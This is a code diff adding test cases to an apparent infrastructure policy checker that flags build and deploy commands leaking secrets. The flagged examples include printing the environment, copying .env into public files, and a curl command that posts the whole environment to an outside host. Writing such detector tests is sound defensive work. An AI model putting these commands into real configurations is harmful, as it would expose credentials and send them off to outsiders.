@@ -1,5 +1,5 @@
 import { unknownText } from "../../policies/framework/value.ts";
-import { cloudflare, github, postgresql, random, vercel } from "../../policies/model/tokens.ts";
+import { cloudflare, github, postgresql, random, render, vercel } from "../../policies/model/tokens.ts";
 import {
   add,
   all,
@@ -58,7 +58,68 @@ const file = (name: string, content: string): Edit =>
 const document = (text: string): Edit =>
   add("pulumiservice:index:Environment", "credentials", { name: "production", yaml: { text } });
 
+const build = (buildCommand: string): Edit => set("web-project", () => ({ buildCommand }));
+const worker = (inputs: Inputs): Edit =>
+  add(render.backgroundWorker, "digests", {
+    name: "digests",
+    plan: "starter",
+    region: "frankfurt",
+    startCommand: "npm run digests",
+    ...inputs,
+  });
+
+/** Commands that show nothing of their variables, or what anybody may see. */
+const quietCommands: readonly (readonly [what: string, edit: Edit])[] = [
+  ["a command asks whether a variable is there", build('test -n "$DATABASE_URL" && npm run build')],
+  ["a command names the release", build('echo "Release $VERCEL_GIT_COMMIT_SHA" && npm run build')],
+  [
+    "a command signs in to a registry",
+    build('echo "//npm.example/:_authToken=$NPM_TOKEN" > .npmrc && npm ci'),
+  ],
+  ["a command stops at the first error and says what it runs", build("set -ex; npm ci; npm run build")],
+  ["a worker is started with a variable of its own", worker({ startCommand: "env QUEUE=mail npm run mail" })],
+];
+
 export const sharedSecrets: readonly Case[] = [
+  ["commands-keep-secrets", "a build prints them", build("env | sort && npm run build")],
+  [
+    "commands-keep-secrets",
+    "a build puts them beside the pages",
+    build('node -p "JSON.stringify(process.env)" > public/env.json && npm run build'),
+  ],
+  ["commands-keep-secrets", "a build gives browsers one", build("VITE_KEY=$SECRET_KEY npm run build")],
+  [
+    "commands-keep-secrets",
+    "the question whether to build prints them",
+    set("web-project", () => ({ ignoreCommand: "printenv; npx turbo-ignore" })),
+  ],
+  [
+    "commands-keep-secrets",
+    "a command sends them away",
+    set("api-service", () => ({
+      preDeployCommand: 'curl -d "$(env)" https://example.com && npm run migrate',
+    })),
+  ],
+  [
+    "commands-keep-secrets",
+    "a worker's command traces them",
+    worker({ startCommand: 'sh -xc "psql $DIRECT_URL"' }),
+  ],
+  [
+    "commands-keep-secrets",
+    "a worker's release copies a file",
+    worker({ preDeployCommand: "cp .env public/" }),
+  ],
+  [
+    "commands-keep-secrets",
+    "the build of a site prints them",
+    add(render.staticSite, "docs", { name: "docs", buildCommand: "set && npm run docs" }),
+  ],
+  [
+    "commands-keep-secrets",
+    "the backup's command prints one",
+    set("backups-job", () => ({ startCommand: "echo $DATABASE_URL" })),
+  ],
   [
     "secrets-not-shared",
     "an environment of the project's own has the secret",
@@ -272,6 +333,7 @@ export const sharedSecrets: readonly Case[] = [
 ];
 
 export const ownSecrets: readonly (readonly [what: string, Edit])[] = [
+  ...quietCommands,
   [
     "previews with a secret of their own",
     all(
